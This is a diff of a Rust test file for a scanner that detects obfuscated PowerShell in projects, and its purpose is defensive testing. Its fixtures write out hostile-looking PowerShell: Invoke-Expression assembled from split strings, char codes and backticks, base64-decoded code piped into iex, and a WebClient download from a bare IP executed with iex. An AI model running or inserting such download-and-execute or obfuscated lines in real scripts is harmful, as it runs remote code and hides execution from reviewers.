@@ -220,11 +220,75 @@ fn shell_assembled_command_word_and_decoded_pipe() {
 }
 
 #[test]
-fn powershell_text_pass_sees_decoded_code_run() {
+fn powershell_is_parsed_assembled_names_char_codes_and_pipes() {
+    // `& $n` holding 'i'+'ex', backticks, `[char]` codes joined: an assembled Invoke-Expression.
+    for body in [
+        "$n = 'i' + 'ex'\n& $n $payload\n",
+        "$c = -join ([char[]](105,101,120))\n.($c) $payload\n",
+        "i`e`x $payload\n",
+    ] {
+        let r = scan(&[("tools/setup.ps1", body)]);
+        assert!(
+            has(&r, "combo.assembled-command", Severity::High),
+            "{body}\n{:#?}",
+            r.findings
+        );
+    }
+    // A value decoded from base64 piped into iex; a download run by iex.
     let r = scan(&[(
-        "tools/install.ps1",
-        "$b = 'SQBFAFgA'\n$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\nInvoke-Expression $s\n",
+        "tools/setup.ps1",
+        "$b = 'SQBFAFgA'\n$t = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\n$t | Invoke-Expression\n",
     )]);
+    assert!(
+        has(&r, "combo.obfuscated-exec", Severity::High),
+        "{:#?}",
+        r.findings
+    );
+    let r = scan(&[(
+        "tools/setup.ps1",
+        "$w = New-Object Net.WebClient\n$s = $w.DownloadString('https://198.51.100.7/a.ps1')\niex $s\n",
+    )]);
+    assert!(
+        has(&r, "combo.remote-code", Severity::Critical),
+        "{:#?}",
+        r.findings
+    );
+    // An honest build: Start-Process with literal arguments, base64 encoding (not decoding).
+    let r = scan(&[(
+        "build.ps1",
+        "param([string]$V = '1.0')\n$stamp = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($V))\nStart-Process -FilePath 'dotnet' -ArgumentList @('build') -Wait\nWrite-Host \"built $stamp\"\n",
+    )]);
+    assert!(
+        worst(&r).is_none_or(|s| s < Severity::Medium),
+        "{:#?}",
+        r.findings
+    );
+    assert!(r.inventory.obfuscation.is_empty(), "{:#?}", r.inventory);
+}
+
+#[test]
+fn powershell_text_pass_sees_decoded_code_run() {
+    // The text pass is the fallback for PowerShell that was not parsed (over the size cap or
+    // out of time).
+    let text = "$b = 'SQBFAFgA'\n$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\nInvoke-Expression $s\n";
+    let none = |l: &str| l.to_string();
+    let mut cx = super::Ctx {
+        src: text,
+        vars: std::collections::HashMap::new(),
+        path: Some("x.ps1"),
+        runs: true,
+        why: "w",
+        install: false,
+        excerpt: &none,
+        facts: Vec::new(),
+        seen: std::collections::HashSet::new(),
+    };
+    super::powershell::scan(&mut cx);
+    assert!(cx
+        .facts
+        .iter()
+        .any(|f| f.kind == crate::capabilities::Kind::Obfuscates && f.dynamic));
+    let r = scan(&[("tools/install.ps1", text)]);
     assert!(
         has(&r, "combo.obfuscated-exec", Severity::High),
         "{:#?}",
